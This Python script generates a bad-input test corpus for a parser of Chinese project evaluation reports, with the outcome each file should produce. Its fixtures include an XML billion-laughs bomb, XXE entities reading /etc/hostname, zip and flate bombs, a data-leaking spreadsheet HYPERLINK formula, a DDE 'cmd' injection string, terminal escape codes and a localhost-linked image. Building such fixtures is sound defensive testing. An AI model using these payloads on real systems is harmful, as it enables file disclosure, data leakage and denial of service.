"""Generate the bad-input corpus (issue #8) into tests/bad/files/ with expected outcomes.

    python tests/bad/make_bad.py

Every file is small and deterministic; ``expected.json`` maps each to its asserted outcome:
``{"error": REASON}`` or ``{"result": {...}}`` with a few facts the report must show. Inputs
too big to commit (a 50 MB text export, a 10,000-row table) are built by the test at run time
with the builders below. Encrypted PDFs come from samples/gen_pdf.py (they need pypdf).
"""

from __future__ import annotations

import io
import json
import random
import shutil
import sys
import zipfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "samples"))
from pdf_writer import pdf_file as samples_pdf_file  # noqa: E402 - the samples' assembler

HERE = Path(__file__).resolve().parent
OUT = HERE / "files"
ROOT = HERE.parents[1]
SEED = ROOT / "samples" / "seed" / "000_b9924377f959d391.txt"
GOOD_DOCX = ROOT / "samples" / "docx" / "seed.auto.docx"
GOOD_PDF = ROOT / "samples" / "pdf" / "report_header_footer.pdf"
PDF_BAD = ROOT / "samples" / "pdf" / "bad"

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CT = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
      'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
      'officedocument.wordprocessingml.document.main+xml"/></Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>')


def docx(document_xml: bytes | None, extra: dict[str, bytes] | None = None,
         compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    members: dict[str, str | bytes] = {"[Content_Types].xml": CT, "_rels/.rels": RELS}
    if document_xml is not None:
        members["word/document.xml"] = document_xml
    members.update(extra or {})
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():  # fixed timestamps: the corpus is reproducible
            zf.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data,
                        compress_type=compression)
    return buf.getvalue()


def body(inner: str) -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}"><w:body>{inner}'
            '</w:body></w:document>').encode()


def para(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def nested_tables(depth: int) -> bytes:
    inner = para("最内层")
    for i in range(depth):
        inner = f"<w:tbl><w:tr><w:tc>{para(f'第{i}层')}{inner}</w:tc></w:tr></w:tbl>{para('')}"
    return body(para("一、基本情况") + inner)


def big_text(mb: int = 50) -> bytes:
    """A text export of about ``mb`` megabytes (the seed repeated)."""
    seed = SEED.read_bytes()
    return seed * (mb * 1_000_000 // len(seed) + 1)


def long_table(rows: int = 10_000) -> bytes:
    lines = ["一、基本情况", "项目明细表", "\t序号", "\t名称", "\t金额（万元）"]
    for i in range(1, rows + 1):
        lines += ["", f"\t{i}", f"\t项目{i}", f"\t{i % 97}.{i % 100:02d}"]
    return ("\n".join(lines) + "\n\n\n二、评价结论\n正文。\n").encode()


BODY = "一、基本情况\n本项目预算100万元。\n二、评价结论\n总分90分，等级为优。\n"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"某县2023年度项目绩效评价报告")'


def formula_title() -> bytes:
    """Issue 18, class 1: a report whose title is a spreadsheet formula."""
    return (FORMULA + "\n" + BODY).encode()


def control_title() -> bytes:
    """BEL, ESC (a terminal colour sequence) and C1 CSI in the title and the text."""
    return ("<html><body><h1>某县2023年度项目绩效评价报告&#7;&#x1b;[31m红&#x9b;2J</h1>"
            "<h2>一、基本情况</h2><p>-2+3+cmd|' /C calc'!A0 本项目预算100万元。&#x1b;[2J</p>"
            "<h2>二、评价结论</h2><p>@SUM(1,1) 总分90分。</p></body></html>").encode()


def cid_pdf(lines: list[str], *, to_unicode: bool = True,
            override: dict[str, str] | None = None, extra_ops: str = "",
            pages: int = 1) -> bytes:
    """A one-page PDF in a Type0 (Identity-H) font, not embedded, each distinct character one
    CID. The ToUnicode map gives each CID its UTF-16BE hex (``override`` replaces the hex of a
    character, e.g. a lone surrogate ``D800``); ``to_unicode=False`` leaves the map out (the
    reader then only has CIDs: gibberish)."""
    chars = sorted({ch for line in lines for ch in line})
    cid = {ch: i + 1 for i, ch in enumerate(chars)}
    override = override or {}
    ops = ["BT", "/F1 12 Tf"]
    for k, line in enumerate(lines):
        hexs = "".join(f"{cid[ch]:04X}" for ch in line)
        ops.append(f"1 0 0 1 72 {760 - 36 * k} Tm <{hexs}> Tj")
    ops.append("ET")
    content = ("\n".join(ops) + "\n" + extra_ops).encode()
    maps = "\n".join(f"<{cid[ch]:04X}> <{override.get(ch) or ch.encode('utf-16-be').hex().upper()}>"
                      for ch in chars)
    cmap = ("/CIDInit /ProcSet findresource begin 12 dict begin begincmap "
            "/CMapName /Adobe-Identity-UCS def /CMapType 2 def "
            "1 begincodespacerange <0000> <FFFF> endcodespacerange "
            f"{len(chars)} beginbfchar\n{maps}\nendbfchar endcmap "
            "CMapName currentdict /CMap defineresource pop end end").encode()
    font = (b"<< /Type /Font /Subtype /Type0 /BaseFont /SimSun /Encoding /Identity-H "
            b"/DescendantFonts [6 0 R]" + (b" /ToUnicode 7 0 R" if to_unicode else b"") + b" >>")
    kids = b" ".join(b"3 0 R" for _ in range(pages))  # every page the same object
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            font,
            b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /SimSun /CIDSystemInfo "
            b"<< /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /DW 1000 >>",
            b"<< /Length %d >>\nstream\n" % len(cmap) + cmap + b"\nendstream"]
    return pdf_file(objs)


def pdf_file(objs: list[bytes], version: bytes = b"1.7") -> bytes:
    """A PDF of ``objs`` (object 1 the catalog), numbered in order, with a correct xref."""
    return samples_pdf_file(objs, version=version, binary_comment=False)


ASTRAL_LINES = ["某县2023年度项目绩效评价报告", "一、基本情况", "项目名称：\U00020000\U0002A6D6工程",
                "二、评价结论", "总分90分，等级为优。"]


def xxe_hidden(how: str) -> bytes:
    """A DOCTYPE with an external entity hidden from a 64 KiB head scan (``comment``) or
    behind an encoding (``utf16``, ``utf16-nobom``)."""
    decl = '<?xml version="1.0"?>'
    prolog = "<!--" + "x" * 70_000 + "-->" if how == "comment" else ""
    doc = (f'{prolog}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
           f'<w:document xmlns:w="{W}"><w:body>{para("一、基本情况")}<w:p><w:r><w:t>&x;</w:t>'
           '</w:r></w:p></w:body></w:document>')
    if how == "comment":
        return docx((decl + doc).encode())
    codec = "utf-16" if how == "utf16" else "utf-16-le"
    return docx(('<?xml version="1.0" encoding="UTF-16"?>' + doc).encode(codec))


def deep_html(depth: int = 300, tag: str = "div") -> bytes:
    """Elements nested past libxml2's 256 levels (the parser stops there, the rest is lost),
    or — ``tag="table"`` — tables nested deeper than any report nests them."""
    open_, close = ("<table><tr><td>层", "</td></tr></table>") if tag == "table" else \
        ("<div>层", "</div>")
    return ("<html><body><h2>一、基本情况</h2><p>正文。</p>" + open_ * depth + close * depth
            + "<h2>二、评价结论</h2><p>结论。</p></body></html>").encode()


def huge_text_node_html(mb: int = 11) -> bytes:
    """One text node over libxml2's 10 MB: the parser stops there (built at test time)."""
    return ("<html><body><h2>一、基本情况</h2><p>" + "测" * (mb * 1_000_000 // 3)
            + "</p><h2>二、评价结论</h2></body></html>").encode()


_PKG_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _doc_rels(rels: list[tuple[str, str]]) -> str:
    """word/_rels/document.xml.rels with (type, target) relationships."""
    body_ = "".join(f'<Relationship Id="r{i}" Type="{_PKG_REL}/{t}" Target="{target}"/>'
                    for i, (t, target) in enumerate(rels))
    return ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            f'openxmlformats.org/package/2006/relationships">{body_}</Relationships>')


def based_on_chain(n: int = 30_000) -> bytes:
    """Class 4: ``n`` styles, each based on the previous (quadratic when resolved naively)."""
    styles = "".join(f'<w:style w:type="paragraph" w:styleId="s{i}"><w:name w:val="s{i}"/>'
                     + (f'<w:basedOn w:val="s{i - 1}"/>' if i else "") + "</w:style>"
                     for i in range(n))
    doc = body(para("一、基本情况") + f'<w:p><w:pPr><w:pStyle w:val="s{n - 1}"/></w:pPr>'
               '<w:r><w:t>正文。</w:t></w:r></w:p>' + para("二、评价结论"))
    return docx(doc, {"word/styles.xml": f'<w:styles xmlns:w="{W}">{styles}</w:styles>',
                      "word/_rels/document.xml.rels": _doc_rels([("styles", "styles.xml")])})


def shared_header(refs: int = 5_000) -> bytes:
    """Class 4: one header part referenced ``refs`` times (parsed per reference naively)."""
    header = (f'<w:hdr xmlns:w="{W}">' + para("某县2023年度项目绩效评价报告" * 50) * 200
              + "</w:hdr>")
    return docx(body(para("一、基本情况") + para("正文。") + para("二、评价结论")),
                {"word/header1.xml": header,
                 "word/_rels/document.xml.rels": _doc_rels([("header", "header1.xml")] * refs)})


def long_lvl_text(chars: int = 300_000, paragraphs: int = 200) -> bytes:
    """Class 4: a numbering ``lvlText`` of ``chars`` characters on many paragraphs."""
    numbering = (f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:lvl '
                 f'w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText '
                 f'w:val="{"%1" * (chars // 2)}"/></w:lvl></w:abstractNum><w:num w:numId="1">'
                 '<w:abstractNumId w:val="0"/></w:num></w:numbering>')
    item = ('<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
            '<w:r><w:t>事项</w:t></w:r></w:p>')
    return docx(body(para("一、基本情况") + item * paragraphs + para("二、评价结论")),
                {"word/numbering.xml": numbering,
                 "word/_rels/document.xml.rels": _doc_rels([("numbering", "numbering.xml")])})


def many_footnote_refs(refs: int = 20_000, note_chars: int = 1_000) -> bytes:
    """Class 4: one long footnote referenced ``refs`` times (its text copied per reference)."""
    notes = (f'<w:footnotes xmlns:w="{W}"><w:footnote w:id="1"><w:p><w:r><w:t>'
             f'{"注" * note_chars}</w:t></w:r></w:p></w:footnote></w:footnotes>')
    ref = '<w:r><w:footnoteReference w:id="1"/></w:r>'
    return docx(body(para("一、基本情况") + f"<w:p><w:r><w:t>正文</w:t></w:r>{ref * refs}</w:p>"
                     + para("二、评价结论")),
                {"word/footnotes.xml": notes,
                 "word/_rels/document.xml.rels": _doc_rels([("footnotes", "footnotes.xml")])})


def wide_table(fmt: str, rows: int, cols: int = 10) -> bytes:
    """Class 4: a table of rows × cols cells in ``fmt`` (docx, html, md, txt)."""
    if fmt == "docx":
        row = "<w:tr>" + f"<w:tc>{para('1')}</w:tc>" * cols + "</w:tr>"
        return docx(body(para("一、基本情况") + "<w:tbl>" + row * rows + "</w:tbl>"
                         + para("二、评价结论")))
    if fmt == "html":
        return ("<html><body><h2>一、基本情况</h2><table>" + ("<tr>" + "<td>1</td>" * cols
                + "</tr>") * rows + "</table></body></html>").encode()
    if fmt == "md":
        line = "|" + " 1 |" * cols + "\n"
        return ("# 一、基本情况\n\n" + line + "|" + "---|" * cols + "\n" + line * rows).encode()
    return ("一、基本情况\n" + ("\t1\n" * cols + "\n") * rows).encode()


def nested_zip_fanout(outer: int = 40, inner: int = 400) -> bytes:
    """Class 4 (batch): ``outer`` zips of ``inner`` small members each, in one zip — items
    multiply with nesting (at 10,000 × 10,000 that is 10⁸ inputs before any work)."""
    small = io.BytesIO()
    with zipfile.ZipFile(small, "w", zipfile.ZIP_DEFLATED) as z:
        for i in range(inner):
            z.writestr(zipfile.ZipInfo(f"r{i}.txt", date_time=(2024, 1, 1, 0, 0, 0)), "一、基本情况")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for i in range(outer):
            z.writestr(zipfile.ZipInfo(f"part{i}.zip", date_time=(2024, 1, 1, 0, 0, 0)),
                       small.getvalue())
    return buf.getvalue()


def ruled_grid_pdf(n: int = 2_000) -> bytes:
    """Class 4: a page ruled with ``n`` horizontal and ``n`` vertical lines (a grid of n² cells
    when taken as one table)."""
    step = 700 / n
    ops = ["0.1 w"]
    ops += [f"50 {50 + i * step:.3f} m 550 {50 + i * step:.3f} l S" for i in range(n)]
    ops += [f"{50 + i * step / 1.4:.3f} 50 m {50 + i * step / 1.4:.3f} 750 l S" for i in range(n)]
    return cid_pdf(ASTRAL_LINES[:2], extra_ops="\n".join(ops))


def shared_page_pdf(pages: int = 2_000) -> bytes:
    """Class 4: ``pages`` pages that are all one page object (18 lines of 40 characters)."""
    text = "某县项目绩效评价报告正文内容一二三四五六七八九十" * 40
    return cid_pdf([text[i * 40:(i + 1) * 40] for i in range(18)], pages=pages)


def self_drawing_pdf() -> bytes:
    """Class 4: a page whose form XObject draws itself (``/X1 Do`` inside ``/X1``): an
    endless recursion for a reader that follows it without a depth bound."""
    content = b"BT /F1 12 Tf 72 720 Td (Total 1,234.56) Tj ET /X1 Do"
    form = b"/X1 Do"
    return pdf_file([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /X1 6 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject "
        b"<< /X1 6 0 R >> >> /Length %d >>\nstream\n" % len(form) + form + b"\nendstream"])


def flate_bomb_pdf(inflated_mb: int = 80) -> bytes:
    """Class 4: a page whose second content stream is a flate bomb of drawing operators
    (xref offsets are stale: readers repair them, as they do for real damaged files)."""
    import zlib

    ops = b"0 0 m 1 1 l S\n" * (inflated_mb * 1_000_000 // 14)
    bomb = zlib.compress(ops, 9)
    pdf = cid_pdf(ASTRAL_LINES).replace(b"/Contents 4 0 R", b"/Contents [4 0 R 8 0 R]")
    at = pdf.index(b"xref")
    obj = (b"8 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb
           + b"\nendstream\nendobj\n")
    return pdf[:at] + obj + pdf[at:]


def linked_odt(url: str) -> bytes:
    """Class 2: an .odt whose image is a link to ``url`` (LibreOffice fetched it)."""
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office='
               '"urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:'
               'tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:'
               'xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:body>'
               '<office:text><text:h>一、基本情况</text:h><text:p><draw:frame><draw:image '
               f'xlink:href="{url}" xlink:type="simple"/></draw:frame></text:p></office:text>'
               '</office:body></office:document-content>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in (("mimetype", "application/vnd.oasis.opendocument.text"),
                           ("content.xml", content)):
            z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def colliding_inputs(folder: Path) -> None:
    """Class 3 (batch): inputs whose natural names collide — a real file named like an archive
    member, two members of one zip with one name, a real file named like the renamed one."""
    import warnings

    report = formula_title()
    folder.mkdir(parents=True, exist_ok=True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns "Duplicate name": that is the point
        with zipfile.ZipFile(folder / "a.zip", "w") as z:
            for name, data in (("x.txt", report), ("dup.txt", report + b"1"), ("dup.txt", b"")):
                z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
    (folder / "a.zip!x.txt").write_bytes(b"")
    (folder / "a.zip!dup#2.txt").write_bytes(report)


def main() -> None:
    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir(parents=True)
    rng = random.Random(8)
    expected: dict[str, dict] = {}

    def put(name: str, data: bytes, outcome: dict) -> None:
        (OUT / name).write_bytes(data)
        expected[name] = outcome

    for ext in ("txt", "docx", "pdf", "md", "html"):
        put(f"empty.{ext}", b"", {"error": "empty"})
    noise = bytes(rng.randrange(256) for _ in range(4096))
    put("random.txt", noise, {"error": "binary"})
    put("random.docx", noise, {"error": "corrupt"})
    put("random.pdf", noise, {"error": "unsupported_format"})
    put("random.md", noise, {"error": "binary"})
    put("random.html", noise, {"error": "binary"})

    good = GOOD_DOCX.read_bytes()
    for frac in (0.1, 0.5, 0.9):
        put(f"truncated_{int(frac * 100)}.docx", good[: int(len(good) * frac)], {"error": "corrupt"})
    pdf = GOOD_PDF.read_bytes()
    for frac in (0.1, 0.5):
        put(f"truncated_{int(frac * 100)}.pdf", pdf[: int(len(pdf) * frac)], {"error": "corrupt"})
    put("no_document_xml.docx", docx(None), {"error": "corrupt"})
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
                        for i in range(1, 10))
              + f']><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
              '</w:body></w:document>').encode()
    put("billion_laughs.docx", docx(laughs), {"error": "unsafe"})
    xxe = (f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
           f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body>'
           '</w:document>').encode()
    put("xxe.docx", docx(xxe), {"error": "unsafe"})
    put("zip_bomb.docx", docx(body(para("一、基本情况")),
                              {"word/media/bomb.bin": b"\0" * (64 << 20)}), {"error": "unsafe"})
    put("nested_tables.docx", docx(nested_tables(12)),
        {"result": {"sections": 1, "min_tables": 1}})
    put("deeply_nested_tables.docx", docx(nested_tables(120)), {"error": "too_large"})

    for name, reason in (("encrypted.pdf", "encrypted"), ("image_only.pdf", "no_text_layer"),
                         ("damaged_xref.pdf", None), ("not_a_pdf.pdf", "unsupported_format")):
        data = (PDF_BAD / name).read_bytes()
        put(name, data, {"error": reason} if reason else {"result": {"min_sections": 3}})

    put("shift_jis.txt", ("この報告書はプロジェクトの成果評価の結果をまとめたものです。予算の執行率と"
                          "目標の達成度を検討し、改善点を提案します。" * 4).encode("shift_jis"),
        {"error": "encoding"})
    put("euc_kr.txt", ("이 보고서는 프로젝트 성과 평가 결과를 요약합니다. 예산 집행률과 목표 달성도를 "
                       "검토하였습니다. " * 4).encode("euc-kr"), {"error": "encoding"})
    put("headings_only.txt", "一、基本情况\n（一）项目背景\n二、评价结论\n三、存在问题\n".encode(),
        {"result": {"sections": 3, "headings": ["一、基本情况", "（一）项目背景", "二、评价结论",
                                                 "三、存在问题"]}})
    put("no_headings.txt", ("本项目资金使用规范，绩效目标基本实现。" * 20 + "\n").encode() * 5,
        {"result": {"sections": 0}})
    put("wrong_extension.docx", SEED.read_bytes()[:3000], {"error": "corrupt"})
    # issue 18 (hostile input, round two)
    put("formula_title.txt", formula_title(), {"result": {"sections": 2}})
    put("control_chars_title.html", control_title(), {"result": {"sections": 2}})
    put("astral_cjk.pdf", cid_pdf(ASTRAL_LINES), {"result": {"sections": 2}})
    put("lone_surrogate.pdf", cid_pdf(ASTRAL_LINES, override={"\U0002A6D6": "D800"}),
        {"result": {"sections": 2}})
    put("sym_surrogate.docx", docx(body(para("一、基本情况") + '<w:p><w:r><w:t>项目</w:t>'
                                        '<w:sym w:font="SimSun" w:char="D840"/><w:sym '
                                        'w:font="SimSun" w:char="DC00"/><w:sym w:char="DFFF"/>'
                                        '</w:r></w:p>' + para("二、评价结论"))),
        {"result": {"sections": 2}})
    put("whitespace_utf16.html", "\ufeff \u3000\n\u200b\t".encode("utf-16"), {"error": "empty"})
    put("whitespace_ideographic.docx", "\u3000\u3000\n".encode(), {"error": "empty"})
    put("doctype_after_long_comment.docx", xxe_hidden("comment"), {"error": "unsafe"})
    put("doctype_utf16.docx", xxe_hidden("utf16"), {"error": "unsafe"})
    put("doctype_utf16_nobom.docx", xxe_hidden("utf16-nobom"), {"error": "unsafe"})
    put("no_unicode_map.pdf", cid_pdf(ASTRAL_LINES, to_unicode=False), {"result": {}})
    put("deep_divs.html", deep_html(300), {"result": {"sections": 1}})
    put("deep_tables.html", deep_html(60, "table"), {"error": "too_large"})
    put("long_lvl_text.docx", long_lvl_text(300_000, 200), {"result": {"sections": 2}})
    put("footnote_refs_x20000.docx", many_footnote_refs(20_000, 1_000), {"error": "too_large"})
    put("shared_header_x5000.docx", shared_header(5_000), {"result": {"sections": 2}})
    put("linked_image.odt", linked_odt("http://127.0.0.1:9/linked.png"), {"error": "unsafe"})
    put("brackets.md", ("一、基本情况\n\n" + "[" * 200_000 + "\n").encode(), {"result": {}})
    (OUT / "expected.json").write_text(json.dumps(expected, ensure_ascii=False, indent=1) + "\n",
                                       encoding="utf-8")
    print(f"wrote {len(expected)} files to {OUT}")


if __name__ == "__main__":
    main()
